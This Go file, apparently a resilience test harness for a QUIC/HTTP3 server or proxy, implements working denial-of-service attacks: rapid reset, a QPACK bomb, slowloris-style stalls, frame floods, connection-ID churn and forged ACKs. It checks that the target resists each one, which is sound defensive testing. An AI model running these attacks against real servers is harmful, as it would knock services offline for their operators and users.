// SPDX-License-Identifier: Apache-2.0

//go:build abuse

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"sync/atomic"
	"time"

	"github.com/quic-go/qpack"
	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"github.com/quic-go/quic-go/quicvarint"
)

// dialQUIC connects from an attacker's address, on a new socket.
func dialQUIC(ctx context.Context, from net.IP, config *quic.Config) (*quic.Conn, func(), error) {
	socket, err := net.ListenUDP("udp4", &net.UDPAddr{IP: from})
	if err != nil {
		return nil, nil, err
	}
	transport := &quic.Transport{Conn: socket}
	end := func() {
		transport.Close()
		socket.Close()
	}
	timeout := 5 * time.Second
	if config != nil {
		timeout = max(timeout, config.HandshakeIdleTimeout)
	}
	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()
	conn, err := transport.Dial(ctx, net.UDPAddrFromAddrPort(target),
		&tls.Config{InsecureSkipVerify: true, ServerName: siteHost, NextProtos: []string{http3.NextProtoH3}}, config)
	if err != nil {
		end()
		return nil, nil, err
	}
	return conn, end, nil
}

// onQUIC runs do on a connection. It closes the connection when do returns, and when ctx ends,
// because do may be blocked in a write without a context.
func onQUIC(config *quic.Config, do func(context.Context, *quic.Conn) error) func(context.Context) error {
	return func(ctx context.Context) error {
		conn, end, err := dialQUIC(ctx, attacker, config)
		if err != nil {
			return err
		}
		defer end()
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		defer context.AfterFunc(conn.Context(), cancel)()
		closeConn := func() { conn.CloseWithError(quic.ApplicationErrorCode(http3.ErrCodeNoError), "") }
		defer closeConn()
		defer context.AfterFunc(ctx, closeConn)()
		return do(ctx, conn)
	}
}

func handshakeQUIC(ctx context.Context) error {
	return onQUIC(nil, func(context.Context, *quic.Conn) error { return nil })(ctx)
}

// abandon connects and never sends again.
func abandon(ctx context.Context) error {
	_, end, err := dialQUIC(ctx, attacker, nil)
	if err == nil {
		end()
	}
	return err
}

// frame is a frame of HTTP/3 (RFC 9114, section 7.1).
func frame(kind uint64, payload []byte) []byte {
	b := quicvarint.Append(nil, kind)
	b = quicvarint.Append(b, uint64(len(payload)))
	return append(b, payload...)
}

const headersFrame = 0x1

func request(method, host, path string, more ...qpack.HeaderField) []byte {
	var block bytes.Buffer
	enc := qpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", host}, {":path", path}} {
		enc.WriteField(qpack.HeaderField{Name: f[0], Value: f[1]})
	}
	for _, f := range more {
		enc.WriteField(f)
	}
	return frame(headersFrame, block.Bytes())
}

// streams opens as many streams as the victim grants, up to n, and hands each to do.
func streams(ctx context.Context, conn *quic.Conn, n int, do func(*quic.Stream) error) error {
	for range n {
		ctx, cancel := context.WithTimeout(ctx, 200*time.Millisecond)
		str, err := conn.OpenStreamSync(ctx)
		cancel()
		if errors.Is(err, context.DeadlineExceeded) {
			return nil // the victim grants no more
		}
		if err != nil {
			return err
		}
		if err := do(str); err != nil {
			return err
		}
	}
	return nil
}

// slowHeaderQUIC begins HEADERS on every stream and never completes them.
func slowHeaderQUIC(ctx context.Context, conn *quic.Conn) error {
	var open []*quic.Stream
	err := streams(ctx, conn, 100, func(str *quic.Stream) error {
		open = append(open, str)
		_, err := str.Write([]byte{headersFrame, 0x44, 0x00, 0, 0})
		return err
	})
	for err == nil && ctx.Err() == nil {
		alive := 0
		for _, str := range open {
			if _, err := str.Write([]byte{0x50}); err == nil {
				alive++
			}
		}
		if alive == 0 {
			return errors.New("all streams were ended")
		}
		pause(ctx, 200*time.Millisecond)
	}
	return err
}

// slowBodyQUIC uploads a byte at a time.
func slowBodyQUIC(ctx context.Context, conn *quic.Conn) error {
	var open []*quic.Stream
	err := streams(ctx, conn, 100, func(str *quic.Stream) error {
		open = append(open, str)
		_, err := str.Write(request("POST", originHost, "/sink"))
		return err
	})
	for err == nil && ctx.Err() == nil {
		for _, str := range open {
			str.Write([]byte{0, 1, 'x'}) // DATA
		}
		pause(ctx, 200*time.Millisecond)
	}
	return err
}

// uploads sends more than fits to an origin that does not read.
func uploads(ctx context.Context, conn *quic.Conn) error {
	body := frame(0, make([]byte, 64<<10))
	return streams(ctx, conn, 100, func(str *quic.Stream) error {
		if _, err := str.Write(request("POST", originHost, "/stall")); err != nil {
			return err
		}
		go endless(ctx, str, body)
		return nil
	})
}

func uploadsUntilEnd(ctx context.Context, conn *quic.Conn) error {
	if err := uploads(ctx, conn); err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}

// tinyWindows are the windows of a client that requests much and accepts nothing.
var tinyWindows = &quic.Config{
	InitialStreamReceiveWindow: 16, MaxStreamReceiveWindow: 16,
	InitialConnectionReceiveWindow: 4096, MaxConnectionReceiveWindow: 4096,
}

func readNothing(ctx context.Context, conn *quic.Conn) error {
	err := streams(ctx, conn, 100, func(str *quic.Stream) error {
		_, err := str.Write(request("GET", siteHost, bigFile))
		return err
	})
	if err == nil {
		<-ctx.Done()
	}
	return err
}

// hugeHeader announces a header section of a terabyte and begins to send it.
func hugeHeader(ctx context.Context, conn *quic.Conn) error {
	return streams(ctx, conn, 1<<30, func(str *quic.Stream) error {
		b := quicvarint.Append([]byte{headersFrame}, 1<<40)
		str.SetDeadline(time.Now().Add(time.Second))
		str.Write(append(b, make16K('a')...))
		return str.Close()
	})
}

// largeHeaders sends requests with incomplete header sections of just below 1 MiB.
func largeHeaders(ctx context.Context, conn *quic.Conn) error {
	err := streams(ctx, conn, 100, func(str *quic.Stream) error {
		b := quicvarint.Append([]byte{headersFrame}, 1000<<10)
		go str.Write(append(b, make([]byte, 999<<10)...))
		return nil
	})
	if err == nil {
		<-ctx.Done()
	}
	return err
}

// qpackBomb sends header sections in which each byte stands for a whole field (RFC 9204,
// section 4.5.2: static index 23, ":scheme: https" and the like), and instructions for a
// table that the victim does not allow.
func qpackBomb(ctx context.Context, conn *quic.Conn) error {
	section := append([]byte{0, 0}, bytes.Repeat([]byte{0xc0 | 53}, 60<<10)...) // content-type: text/plain
	return streams(ctx, conn, 1<<30, func(str *quic.Stream) error {
		str.SetDeadline(time.Now().Add(time.Second))
		str.Write(frame(headersFrame, section))
		return str.Close()
	})
}

// qpackInstructions fills the encoder stream (RFC 9204, section 4.3).
func qpackInstructions(ctx context.Context, conn *quic.Conn) error {
	str, err := conn.OpenUniStreamSync(ctx)
	if err != nil {
		return err
	}
	if _, err := str.Write([]byte{0x02}); err != nil {
		return err
	}
	insert := append([]byte{0x41, 'x', 0x7f, 0x80 | (1000-127)&0x7f, (1000 - 127) >> 7}, make16K('a')[:1000]...)
	return endless(ctx, str, bytes.Repeat(insert, 16))
}

// rapidReset opens streams and resets them at once.
func rapidReset(ctx context.Context) (resets int, err error) {
	var n atomic.Int64
	get := request("GET", siteHost, bigFile)
	_, err = crowd(ctx, 2, onQUIC(nil, func(ctx context.Context, conn *quic.Conn) error {
		for ctx.Err() == nil {
			str, err := conn.OpenStreamSync(ctx)
			if err != nil {
				return err
			}
			str.Write(get)
			str.CancelWrite(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
			str.CancelRead(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
			n.Add(1)
		}
		return nil
	}))
	return int(n.Load()), err
}

// wrongToken requests tunnels with a wrong token.
func wrongToken(ctx context.Context) (requests int, err error) {
	var n atomic.Int64
	_, err = crowd(ctx, 4, onQUIC(nil, func(ctx context.Context, conn *quic.Conn) error {
		client := (&http3.Transport{}).NewClientConn(conn)
		for ctx.Err() == nil {
			res, err := client.RoundTrip((&http.Request{
				Method: http.MethodConnect, Host: "192.0.2.1:80", URL: &url.URL{Host: "192.0.2.1:80"},
				Header: http.Header{"Proxy-Authorization": {"Bearer wrong-horse"}},
			}).WithContext(ctx))
			if err != nil {
				return err
			}
			if res.StatusCode/100 == 2 {
				panic("a wrong token opened a tunnel")
			}
			res.Body.Close()
			n.Add(1)
		}
		return nil
	}))
	return int(n.Load()), err
}

// maxFrames is the room for frames in the smallest packet, in bytes.
const maxFrames = 1100

// flood sends frames made by next as fast as the path carries them, and returns how many it
// sent. Each packet contains perPacket frames, or as many as fit.
func flood(perPacket int, next func() []byte) func(context.Context) (int, error) {
	return func(ctx context.Context) (int, error) {
		var n atomic.Int64
		_, err := crowd(ctx, 2, onQUIC(nil, func(ctx context.Context, conn *quic.Conn) error {
			for ctx.Err() == nil {
				var b []byte
				in := 0
				for in < perPacket {
					f := next()
					if len(b)+len(f) > maxFrames {
						break
					}
					b = append(b, f...)
					in++
				}
				for !conn.QueueRaw(b) {
					pause(ctx, 200*time.Microsecond)
					if ctx.Err() != nil {
						return context.Cause(conn.Context())
					}
				}
				n.Add(int64(in))
			}
			return context.Cause(conn.Context())
		}))
		return int(n.Load()), err
	}
}

const fill = 1 << 20 // as many as fit

func ping() []byte         { return []byte{0x01} }
func immediateAck() []byte { return []byte{0x1f} }

// ackFrequency requests a different ACK policy each time (draft-ietf-quic-ack-frequency-11, section 4).
func ackFrequency() func() []byte {
	var sequence atomic.Uint64
	return func() []byte {
		n := sequence.Add(1)
		b := quicvarint.Append(nil, 0xaf)
		b = quicvarint.Append(b, n)
		b = quicvarint.Append(b, n%50)          // packets per ACK
		b = quicvarint.Append(b, 1000+n%20_000) // us
		return quicvarint.Append(b, n%3)        // reordering threshold
	}
}

func pathChallenge() []byte { return append([]byte{0x1a}, garbage(8)...) }

// dataBlocked claims to be blocked, at a different offset each time.
func dataBlocked() func() []byte {
	var n atomic.Uint64
	return func() []byte { return quicvarint.Append([]byte{0x14}, n.Add(1)) }
}

// newConnectionIDs makes the victim change its destination connection ID all the time.
func newConnectionIDs(ctx context.Context, conn *quic.Conn) error {
	for n := uint64(10); ctx.Err() == nil; n++ {
		b := quicvarint.Append([]byte{0x18}, n)
		b = quicvarint.Append(b, n-1) // retires all earlier ones
		b = append(append(b, cidLen), garbage(cidLen+16)...)
		for !conn.QueueRaw(b) && ctx.Err() == nil {
			pause(ctx, 200*time.Microsecond)
		}
	}
	return context.Cause(conn.Context())
}

// retireConnectionIDs retires what the victim issues, so that it issues more.
func retireConnectionIDs(ctx context.Context, conn *quic.Conn) error {
	for n := uint64(1); ctx.Err() == nil; n++ {
		for !conn.QueueRaw(quicvarint.Append([]byte{0x19}, n)) && ctx.Err() == nil {
			pause(ctx, 200*time.Microsecond)
		}
		if n%3 == 0 {
			pause(ctx, 200*time.Microsecond) // for the victim to issue a new one for each
		}
	}
	return context.Cause(conn.Context())
}

// streamGaps sends every other byte of a stream, so that none can be read.
func streamGaps(ctx context.Context, conn *quic.Conn) error {
	for id := uint64(0); id < 400 && ctx.Err() == nil; id += 4 {
		for offset := uint64(1); offset < 2000 && ctx.Err() == nil; {
			var b []byte
			for len(b) < maxFrames-20 {
				b = append(b, 0x0e) // STREAM with offset and length
				b = quicvarint.Append(b, id)
				b = quicvarint.Append(b, offset)
				b = append(b, 1, 'x')
				offset += 2
			}
			for !conn.QueueRaw(b) && ctx.Err() == nil {
				pause(ctx, 200*time.Microsecond)
			}
		}
	}
	<-ctx.Done()
	return context.Cause(conn.Context())
}

// cryptoData sends CRYPTO frames, which a client must not send after the handshake.
func cryptoData() func() []byte {
	var offset atomic.Uint64
	return func() []byte {
		const n = 1000
		b := quicvarint.Append([]byte{0x06}, offset.Add(n)-n)
		b = quicvarint.Append(b, n)
		return append(b, garbage(n)...)
	}
}

// ack is an ACK frame with one range, of all packets up to largest.
func ack(largest uint64) []byte {
	b := quicvarint.Append([]byte{0x02}, largest)
	b = append(b, 0, 0)
	return quicvarint.Append(b, largest)
}

// protocolViolation is the QUIC error code (RFC 9000, section 20.1).
const protocolViolation = 0x0a

// unsentAcks acknowledges packets that the victim has not sent yet.
func unsentAcks(ctx context.Context) (int, error) {
	return violations(ctx, func(ctx context.Context, conn *quic.Conn) { conn.QueueRaw(ack(1 << 20)) })
}

// skippedAcks acknowledges packets without checking which ones arrived. A victim that skips
// packet numbers detects this (RFC 9000, section 21.4).
func skippedAcks(ctx context.Context) (int, error) {
	return violations(ctx, func(ctx context.Context, conn *quic.Conn) {
		str, err := conn.OpenStreamSync(ctx)
		if err != nil {
			return
		}
		str.Write(request("GET", siteHost, bigFile))
		go io.Copy(io.Discard, str)
		for ctx.Err() == nil {
			// Fewer than the largest packet number: numbers were skipped.
			if n := conn.ConnectionStats().PacketsReceived; n > 64 {
				conn.QueueRaw(ack(n - 32))
			}
			pause(ctx, time.Millisecond)
		}
	})
}

// violations runs lie on connections, each of which the victim must close within seconds as a
// protocol violation. Anything else is an error.
func violations(ctx context.Context, lie func(context.Context, *quic.Conn)) (int, error) {
	n := 0
	for ctx.Err() == nil {
		connected := false
		err := onQUIC(nil, func(ctx context.Context, conn *quic.Conn) error {
			connected = true
			lying, stop := context.WithTimeout(ctx, 8*time.Second)
			defer stop()
			lie(lying, conn)
			select {
			case <-conn.Context().Done():
			case <-lying.Done():
			}
			return context.Cause(conn.Context())
		})(ctx)
		var transport *quic.TransportError
		switch {
		case errors.As(err, &transport) && transport.Remote && uint64(transport.ErrorCode) == protocolViolation:
			n++
		case ctx.Err() != nil: // time is up
		case !connected: // it connects too often
			pause(ctx, 50*time.Millisecond)
		case err == nil:
			return n, errors.New("the connection was not closed")
		default:
			var reset *quic.StatelessResetError // the close itself was lost
			if !errors.As(err, &reset) {
				return n, fmt.Errorf("the connection ended otherwise: %w", err)
			}
		}
	}
	if n == 0 {
		return 0, errors.New("no connection was closed with PROTOCOL_VIOLATION")
	}
	return n, nil
}
